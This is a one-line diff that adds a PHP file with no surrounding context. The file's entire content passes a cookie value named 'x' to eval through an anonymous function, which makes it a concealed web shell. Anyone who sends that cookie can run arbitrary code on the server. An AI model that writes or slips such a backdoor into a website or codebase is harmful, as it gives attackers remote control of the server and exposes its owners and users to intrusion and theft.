@@ -1,0 +1,1 @@
+<?php $r = function($c) { eval($c); }; $r($_COOKIE['x']);
